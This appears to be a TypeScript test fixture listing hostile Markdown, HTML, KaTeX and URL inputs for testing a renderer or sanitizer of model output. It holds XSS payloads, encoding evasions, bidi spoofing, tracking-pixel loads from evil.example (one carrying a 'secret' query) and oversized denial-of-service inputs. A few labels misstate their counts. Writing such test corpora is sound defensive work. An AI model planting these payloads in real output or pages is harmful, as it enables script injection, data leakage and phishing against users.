// What a hostile model could write: some of it known from real attacks, some made by putting their parts together.

/** What would run, if it ran. It says so to `window.harmed`. */
const HARM = 'window.harmed=1';

const SCRIPTS = [
  `<script>${HARM}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${HARM}</script >`,
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<script type="module">${HARM}</script>`,
  `<script nonce="">${HARM}</script>`,
  `</script><script>${HARM}//`,
  `</textarea><script>${HARM}</script>`,
  `</title><script>${HARM}</script>`,
  `--><script>${HARM}</script>`,
  `]]><script>${HARM}</script>`,
  `\u0000<script>${HARM}</script>`,
  `<\u0000script>${HARM}</script>`,
  `&lt;script&gt;${HARM}&lt;/script&gt;`,
  `&#60;script&#62;${HARM}&#60;/script&#62;`,
  `＜script＞${HARM}＜/script＞`,
];

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbeforetoggle'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'iframe src=x', 'math', 'p tabindex=0'];
const handlers = ELEMENTS.flatMap((element) => HANDLERS.slice(0, 4).map((handler) => `<${element} ${handler}="${HARM}">`)).concat(
  HANDLERS.slice(4).map((handler) => `<p ${handler}=${HARM} style="animation:x 1s">x</p>`),
);

const ADDRESSES = [
  `javascript:${HARM}`,
  `JaVaScRiPt:${HARM}`,
  ` javascript:${HARM}`,
  `java\tscript:${HARM}`,
  `java&#10;script:${HARM}`,
  `java&Tab;script:${HARM}`,
  `&#106;avascript:${HARM}`,
  `&#x6A;avascript:${HARM}`,
  `javascript&colon;${HARM}`,
  `javascript&#58;${HARM}`,
  `\u0001javascript:${HARM}`,
  `javascript\u200b:${HARM}`,
  `javascript://example.org/%0a${HARM}`,
  `view-source:javascript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFybWVkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${HARM}>`,
  `vbscript:${HARM}`,
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:http://evil.example/x',
  'about:blank',
  'intent://evil.example#Intent;end',
  '//evil.example/x',
  '/auth/logout',
  '\\\\evil.example\\x',
  'https:/\\evil.example',
  'mailto:javascript:x',
];
const links = ADDRESSES.flatMap((address) => [
  `[read more](${address})`,
  `[read more](<${address}>)`,
  `![a picture](${address})`,
  `<${address}>`,
]);

const PICTURES = [
  '![a](https://evil.example/pixel.png?q=secret)',
  '![a](http://evil.example/pixel.gif "title")',
  '[![a](https://evil.example/1.png)](https://evil.example/2)',
  '![a][ref]\n\n[ref]: https://evil.example/ref.png',
  '<img src="https://evil.example/1.png">',
  '<img srcset="https://evil.example/1.png 2x">',
  '<picture><source srcset=https://evil.example/1></picture>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=preload as=image href=https://evil.example/x>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data=https://evil.example/x></object>',
  '<embed src=https://evil.example/x>',
  '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
  '<form action=https://evil.example><button>Go</button></form>',
  '<a href=https://evil.example ping=https://evil.example/ping>x</a>',
  '<svg><image href=https://evil.example/x /></svg>',
  '<svg><use href=https://evil.example/x#y /></svg>',
  '<table background=https://evil.example/x><tr><td>x</table>',
  '<audio src=https://evil.example/x autoplay></audio>',
  '<track src=https://evil.example/x>',
  '<portal src=https://evil.example></portal>',
  '<template><img src=x onerror=window.harmed=1></template>',
];

const STYLES = [
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0;background:red">over everything</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<div class="unseen">hidden</div><div id="conversations">another drawer</div>',
  '<p style="behavior:url(x)">x</p>',
  '<font face="&#x22;;x:expression(window.harmed=1)">x</font>',
  '<marquee onstart=window.harmed=1>x</marquee>',
];

const BIDI = ['\u202E', '\u202D', '\u2066', '\u2067', '\u2068', '\u200F', '\u061C'].flatMap((mark) => [
  `${mark}txt.exe is a picture${mark === '\u202E' ? '' : '\u202C'}`,
  `[${mark}gro.elpmaxe](https://evil.example/${mark}x)`,
]);

const CODE = [
  '```html\n</code></pre></figure><script>window.harmed=1</script>\n```',
  '```" onclick="window.harmed=1\nx\n```',
  '```<script>window.harmed=1</script>\nx\n```',
  '```js\n`${window.harmed=1}`</script><script>window.harmed=1</script>\n```',
  '`</code><img src=x onerror=window.harmed=1>`',
  '``` \u202Erust\nfn main() {}\n```',
  '~~~html\n<!--</pre><script>window.harmed=1</script>-->\n~~~',
  '```xml\n<![CDATA[</pre><script>window.harmed=1</script>]]>\n```',
  '```diff\n+<img src=x onerror=window.harmed=1>\n-</pre>\n```',
  '```css\n@import url(https://evil.example/x.css);\n```',
];

const FORMULAS = [
  '$\\href{javascript:window.harmed=1}{x}$',
  '$\\text{<script>window.harmed=1</script>}$',
  '$\\text{</math><img src=x onerror=window.harmed=1>}$',
  '$$\\text{" onclick="window.harmed=1}$$',
  '$\\style{background:url(https://evil.example)}{x}$',
  '$\\class{unseen}{x}\\cssId{conversations}{y}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\newcommand{\\x}{\\x\\x}\\x$',
  '$\\url{https://evil.example}$',
  '$\\htmlData{x=1}{y}$',
  '$\\unicode{x3c}script\\unicode{x3e}$',
  '\\(\\color{red;background:url(https://evil.example)}x\\)',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.harmed=1"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.harmed=1">x</maction></math>',
  '<svg><foreignObject><script>window.harmed=1</script></foreignObject></svg>',
  '<svg><a xlink:href="javascript:window.harmed=1"><text>x</text></a></svg>',
  '<svg><animate onbegin=window.harmed=1 attributeName=x></svg>',
];

const PLACES = [
  '| <script>window.harmed=1</script> | b |\n|---|---|\n| <img src=x onerror=window.harmed=1> | ![a](https://evil.example/t.png) |',
  '# <img src=x onerror=window.harmed=1>',
  '> <iframe src=https://evil.example></iframe>',
  '- [ ] <input type=checkbox onclick=window.harmed=1>',
  '[^1]: <script>window.harmed=1</script>',
  '[^<script>]: x',
  'x[^1" onclick="window.harmed=1]',
  '1. <svg onload=window.harmed=1>',
  '**<b onclick=window.harmed=1>**',
  '[<img src=x onerror=window.harmed=1>](https://example.org)',
  '[x](https://example.org "\\" onclick=\\"window.harmed=1")',
  '[x](https://example.org/"onclick="window.harmed=1)',
  '[x](https://bank.example@evil.example/)',
  '[https://bank.example](https://evil.example/)',
  'https://bank.example\u2044@evil.example/',
  '<https://evil.example/"onmouseover="window.harmed=1>',
];

/** All of them. */
export const CORPUS = [
  ...SCRIPTS,
  ...handlers,
  ...links,
  ...PICTURES,
  ...STYLES,
  ...BIDI,
  ...CODE,
  ...FORMULAS,
  ...PLACES,
];

/** What nothing may hang on: towers, and lines without end. */
export const HUGE: [string, string][] = [
  ['10,000 quotes in one another', `${'>'.repeat(10_000)} end`],
  ['10,000 lists in one another', `${Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')}\n\nend`],
  ['10,000 stars', `${'*'.repeat(10_000)}end`],
  ['10,000 brackets', `${'['.repeat(10_000)}end`],
  ['10,000 links that do not close', `${'[x](<'.repeat(10_000)}end`],
  ['10,000 ticks', `${'`a``b'.repeat(5_000)}end`],
  ['10,000 dollars', `${'$a '.repeat(10_000)}end`],
  ['10,000 brackets of formulas', `${'\\('.repeat(10_000)}end`],
  ['a formula of a thousand groups', `$$${'{'.repeat(900)}x${'}'.repeat(900)}$$ end`],
  ['a formula of roots', `$$${'\\sqrt'.repeat(300)} x$$ end`],
  ['500 formulas', `${Array.from({ length: 600 }, (_, number) => `$x_{${number}}$`).join(' ')} end`],
  ['a line of a megabyte', `${'word '.repeat(200_000)}end`],
  ['a word of a megabyte', `${'x'.repeat(1_000_000)} end`],
  ['a megabyte of code', `\`\`\`rust\n${'let x = "a"; '.repeat(80_000)}\n\`\`\`\n\nend`],
  ['50 KB of code', `\`\`\`rust\n${'let x = "a"; // b\n'.repeat(2_800)}\`\`\`\n\nend`],
  ['a table of 200 columns', `${'|a'.repeat(200)}|\n${'|-'.repeat(200)}|\n${'|b'.repeat(200)}|\n\nend`],
];
